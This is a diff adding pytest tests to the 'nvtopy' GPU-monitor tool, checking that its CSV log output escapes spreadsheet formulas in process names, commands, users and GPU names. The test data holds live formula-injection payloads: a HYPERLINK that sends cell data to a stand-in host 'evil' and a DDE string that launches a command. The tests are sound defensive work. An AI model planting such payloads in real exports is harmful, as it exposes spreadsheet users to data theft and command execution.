@@ -294,6 +294,58 @@ def test_csv_and_jsonl_writers_escape_once(tmp_path):
     assert unescape_text(data["gpus"][0]["processes"][0]["command"]) == process.command
 
 
+FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)")
+
+
+def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
+    """``nvtopy log`` CSV: a process name, command, user or GPU name that a spreadsheet would run as a formula
+    starts with ``'``; ``unescape_text`` after dropping it gives the text back; a negative number is a number."""
+    from nvtopy.formats.writers import GPU_FIELDS, PROCESS_FIELDS, CsvWriter, _cell
+
+    base = _hostile_snapshot()
+    first = base.gpus[0]
+    process = dataclasses.replace(first.processes[0], name=FORMULAS[0], command=FORMULAS[1], user=FORMULAS[2])
+    static = dataclasses.replace(first.static, name=FORMULAS[3])
+    gpu = dataclasses.replace(first, static=static, processes=(process,))
+    snapshot = dataclasses.replace(base, gpus=(gpu,))
+    for fields, processes, columns in (
+        (list(PROCESS_FIELDS), True, {"name": FORMULAS[0], "command": FORMULAS[1], "user": FORMULAS[2]}),
+        (list(GPU_FIELDS), False, {"name": FORMULAS[3]}),
+    ):
+        out = io.StringIO()
+        CsvWriter(out, fields, processes, header=True).write(snapshot)
+        row = next(csv.DictReader(io.StringIO(out.getvalue())))
+        for column, text in columns.items():
+            assert row[column].startswith("'"), (column, row[column])
+            assert unescape_text(row[column][1:]) == text
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "@")) and not (cell.startswith("-") and not _is_number(cell)), cell
+    assert (_cell(-3.5), _cell(-7), _cell("-x"), _cell(["=a", "b"])) == ("-3.5", "-7", "'-x", "'=a;b")
+
+
+def test_log_csv_of_a_real_process_named_as_a_formula(monkeypatch, tmp_path):
+    """``nvtopy log --processes`` on a real process whose argv0 is a spreadsheet formula: text, not a formula."""
+    formula = '=HYPERLINK("http://evil/?"&A1,"ok")'
+    proc = subprocess.Popen([formula, "600"], executable=shutil.which("sleep"))
+    try:
+        monkeypatch.setattr(options, "open_backend", lambda args: hostile_backend([proc.pid]))
+        path = tmp_path / "procs.csv"
+        assert cli.main(["log", "--processes", "--count", "1", "--output", str(path)]) == 0
+        rows = [r for r in csv.DictReader(io.StringIO(path.read_text())) if r["pid"] == str(proc.pid)]
+        assert [r["command"] for r in rows] == ["'" + formula + " 600"]
+    finally:
+        proc.kill()
+        proc.wait(timeout=10)
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
 def test_text_view_shows_controls_as_visible_escapes():
     out = io.StringIO()
     render_snapshot(_hostile_snapshot(), out, color=False)
